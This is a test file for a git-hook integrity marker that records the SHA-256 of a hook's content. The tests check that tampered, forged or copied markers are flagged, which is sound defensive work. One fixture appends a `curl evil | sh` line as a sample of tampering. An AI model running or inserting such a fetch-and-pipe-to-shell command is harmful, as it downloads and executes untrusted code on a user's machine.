// The marker that ties an installed hook to its content: `# gitguard-hook v1 sha256=<hex of the rest>`.
import { createHash } from 'node:crypto';
import { checkHookMarker, hookMarker, withHookMarker } from '../../src/collect/hook-marker.js';
import { hookScript } from '../../src/collect/hook-script.js';

const SCRIPT = hookScript('pre-push', { node: '/usr/bin/node', bin: "/opt/it's/gitguard.js" });

describe('hook marker', () => {
  test('the marker line holds the sha256 of the content without it', () => {
    expect(hookMarker(SCRIPT)).toBe(`# gitguard-hook v1 sha256=${createHash('sha256').update(SCRIPT).digest('hex')}`);
  });

  test('withHookMarker puts the marker after the #! line, and the result checks as valid', () => {
    const marked = withHookMarker(SCRIPT);
    expect(marked.split('\n')[0]).toBe('#!/bin/sh');
    expect(marked.split('\n')[1]).toMatch(/^# gitguard-hook v1 sha256=[0-9a-f]{64}$/);
    expect(checkHookMarker(marked)).toBe('valid');
  });

  test.each([
    ['a hook without the marker', 'absent', SCRIPT],
    ['an empty file', 'absent', ''],
    ['a marked hook with an added line', 'modified', `${withHookMarker(SCRIPT)}curl evil | sh\n`],
    [
      'a marked hook with a changed command',
      'modified',
      withHookMarker(SCRIPT).replace('hook run pre-push "$@" <', 'hook run pre-push "$@" || true <'),
    ],
    ['a marker with a forged empty hash', 'modified', `#!/bin/sh\n# gitguard-hook v1 sha256=\nexit 0\n`],
    ['a marker whose hash is right, on a script that runs nothing', 'modified', withHookMarker('#!/bin/sh\nexit 0\n')],
    ['the script for another gitguard, hash right', 'valid', withHookMarker(hookScript('pre-receive'))],
    [
      'a marker copied onto another script',
      'modified',
      `${withHookMarker(SCRIPT).split('\n').slice(0, 2).join('\n')}\nexit 0\n`,
    ],
  ])('%s is %s', (_name, state, content) => {
    expect(checkHookMarker(content)).toBe(state);
  });
});
